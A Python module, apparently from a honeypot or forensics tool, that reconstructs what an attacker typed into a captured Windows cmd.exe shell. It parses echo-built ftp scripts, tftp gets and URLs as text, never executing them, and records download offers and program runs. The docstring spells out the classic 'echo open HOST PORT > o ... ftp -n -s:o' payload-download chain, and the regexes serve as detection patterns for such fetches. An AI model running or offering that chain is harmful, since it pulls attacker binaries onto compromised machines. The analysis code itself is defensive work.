"""What an attacker typed into a Windows command shell (a bind or connect-back ``cmd.exe``), read
back from the shell connection's two directions.

Each direction is cut into lines with their capture time (:func:`~.ftp_stream.split_lines`); the
attacker's lines are split into cmd.exe statements at ``&``, ``&&``, ``||`` and ``|`` outside
double quotes (cmd.exe's command separators), and the statements bots use to fetch their binary
are interpreted — as text, never executed:

* ``echo LINE > FILE`` / ``echo LINE >> FILE`` build a script file (``>`` starts it again);
* ``ftp [-n] [-i] [-v] -s:FILE [HOST]`` runs such a script as Windows ``ftp.exe`` would: ``open
  HOST [PORT]`` (port 21 by default), ``user NAME [PASSWORD]`` (with ``-n``; without it the two
  lines after ``open`` are the name and the password), ``get``/``recv REMOTE [LOCAL]``, ``mget``,
  ``binary``/``bin``, ``quit``/``bye`` — the classic ``echo open HOST PORT > o & echo user 1 1 >>
  o & echo get FILE >> o & ftp -n -s:o`` download;
* ``tftp [-i] HOST GET SOURCE [DEST]``;
* any ``http://``, ``https://``, ``ftp://`` or ``tftp://`` URL in a statement;
* a statement that starts a program (``name.exe ...`` or ``start name``) is recorded as run.

Every list is bounded; a script too long, or a statement naming a script never echoed in the
stream, leaves a note.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

MAX_STATEMENTS = 2000
MAX_SCRIPT_LINES = 200
MAX_SCRIPTS = 64

_ECHO = re.compile(r"echo[ \t](.*?)\s*(>>?)\s*(\"[^\"]+\"|[^\s>]+)\s*$", re.I | re.S)
_FTP = re.compile(r"ftp(?:\.exe)?(?:\s+(.*))?$", re.I | re.S)
_TFTP = re.compile(r"tftp(?:\.exe)?\s+(?:-i\s+)?(\S+)\s+(get|put)\s+(\S+)(?:\s+(\S+))?\s*$", re.I)
_URL = re.compile(r"\b(?:https?|ftp|tftp)://[^\s\"'<>&|^]+", re.I)
_RUN = re.compile(r"(?:start\s+(?:\"[^\"]*\"\s+)?)?(\"[^\"]+\"|\S+?\.(?:exe|com|bat|cmd|pif|scr|vbs))(?:\s|$)", re.I)


@dataclass(frozen=True)
class ShellLine:
    """One line sent over the shell connection; ``to_victim``: typed by the attacker."""

    text: str
    ts: int | None
    to_victim: bool


@dataclass(frozen=True)
class ShellOffer:
    """A download a shell statement asks for."""

    protocol: str  # ftp, tftp, http, https
    host: str
    port: int | None
    filename: str
    url: str
    user: str | None = None
    password: str | None = None
    ts: int | None = None
    via: str = ""  # the statement or script that asked for it


@dataclass
class ShellActivity:
    """What the shell connection shows."""

    lines: list[ShellLine] = field(default_factory=list)
    statements: list[tuple[str, int | None]] = field(default_factory=list)  # attacker's, in order
    scripts: dict[str, list[str]] = field(default_factory=dict)  # file name -> lines echoed into it
    offers: list[ShellOffer] = field(default_factory=list)
    runs: list[tuple[str, int | None]] = field(default_factory=list)
    notes: list[str] = field(default_factory=list)

    @property
    def commands(self) -> list[ShellLine]:
        return [x for x in self.lines if x.to_victim]


def split_statements(line: str) -> list[str]:
    """cmd.exe statements of one command line: split at ``&``, ``&&``, ``||``, ``|`` outside double
    quotes, stripped, empty ones dropped."""
    out: list[str] = []
    cur: list[str] = []
    quoted = False
    i = 0
    while i < len(line):
        c = line[i]
        if c == '"':
            quoted = not quoted
        elif c in "&|" and not quoted:
            out.append("".join(cur))
            cur = []
            if i + 1 < len(line) and line[i + 1] == c:
                i += 1
            i += 1
            continue
        cur.append(c)
        i += 1
    out.append("".join(cur))
    return [s.strip() for s in out if s.strip()]


def parse_shell(to_victim: list[ShellLine], from_victim: list[ShellLine]) -> ShellActivity:
    """Interpret the attacker's lines (see the module docstring); ``from_victim`` is kept as seen."""
    act = ShellActivity()
    act.lines = sorted([*to_victim, *from_victim], key=lambda x: (x.ts is None, x.ts or 0, not x.to_victim))
    for line in to_victim:
        for stmt in split_statements(line.text):
            if len(act.statements) >= MAX_STATEMENTS:
                act.notes.append(f"more than {MAX_STATEMENTS} statements: the rest not interpreted")
                return act
            act.statements.append((stmt, line.ts))
            _statement(act, stmt, line.ts)
    return act


def _statement(act: ShellActivity, stmt: str, ts: int | None) -> None:
    m = _ECHO.match(stmt)
    if m is not None:
        text, op, name = m.group(1), m.group(2), m.group(3).strip('"').lower()
        if op == ">" or name not in act.scripts:
            if name not in act.scripts and len(act.scripts) >= MAX_SCRIPTS:
                act.notes.append(f"more than {MAX_SCRIPTS} script files: {name!r} not followed")
                return
            act.scripts[name] = []
        if len(act.scripts[name]) < MAX_SCRIPT_LINES:
            act.scripts[name].append(text)
        return
    m = _FTP.match(stmt)
    if m is not None:
        _ftp(act, (m.group(1) or "").split(), stmt, ts)
        return
    m = _TFTP.match(stmt)
    if m is not None:
        host, verb, source = m.group(1), m.group(2).lower(), m.group(3)
        if verb == "get":
            act.offers.append(ShellOffer("tftp", host, 69, source, f"tftp://{host}/{source}", ts=ts, via=stmt))
        return
    for url in _URL.findall(stmt):
        act.offers.append(_url_offer(url, ts, stmt))
    m = _RUN.match(stmt)
    if m is not None and not stmt.lower().startswith(("del ", "echo", "copy ", "move ", "attrib ")):
        act.runs.append((m.group(1).strip('"'), ts))


def _ftp(act: ShellActivity, args: list[str], stmt: str, ts: int | None) -> None:
    auto_login = "-n" not in [a.lower() for a in args]
    script = next((a[3:].strip('"').lower() for a in args if a.lower().startswith("-s:")), None)
    host_arg = next((a for a in args if not a.startswith("-")), None)
    if script is None:
        if host_arg is not None:
            act.offers.append(ShellOffer("ftp", host_arg, 21, "", f"ftp://{host_arg}/", ts=ts, via=stmt))
        return
    lines = act.scripts.get(script)
    if lines is None:
        act.notes.append(f"ftp runs script {script!r}, which the stream never wrote")
        return
    host, port = (host_arg, 21) if host_arg else (None, None)
    user = password = None
    pending_login = 2 if host_arg and auto_login else 0
    for raw in lines:
        words = raw.split()
        if not words:
            continue
        if pending_login:  # without -n, ftp.exe asks for the name, then the password, after connecting
            if pending_login == 2:
                user = raw.strip()
            else:
                password = raw.strip()
            pending_login -= 1
            continue
        verb = words[0].lower()
        if verb in ("open", "o") and len(words) >= 2:
            host = words[1]
            port = int(words[2]) if len(words) >= 3 and words[2].isdigit() and 0 < int(words[2]) < 65536 else 21
            pending_login = 2 if auto_login else 0
        elif verb == "user" and len(words) >= 2:
            user = words[1]
            password = words[2] if len(words) >= 3 else password
        elif verb in ("get", "recv", "mget") and len(words) >= 2 and host is not None:
            for name in words[1:2] if verb != "mget" else words[1:]:
                url = f"ftp://{_hostport(host, port, 21)}/{name}"
                act.offers.append(ShellOffer("ftp", host, port, name, url, user, password, ts, f"ftp -s:{script}"))


def _hostport(host: str, port: int | None, default: int) -> str:
    h = f"[{host}]" if ":" in host else host
    return h if port in (None, default) else f"{h}:{port}"


def _url_offer(url: str, ts: int | None, stmt: str) -> ShellOffer:
    scheme, _, rest = url.partition("://")
    hostport, _, path = rest.partition("/")
    host, _, port_text = hostport.rpartition("@")[2].partition(":")
    defaults = {"http": 80, "https": 443, "ftp": 21, "tftp": 69}
    port = int(port_text) if port_text.isdigit() and 0 < int(port_text) < 65536 else defaults.get(scheme.lower())
    name = path.rsplit("/", 1)[-1]
    return ShellOffer(scheme.lower(), host, port, name, url, ts=ts, via=stmt)
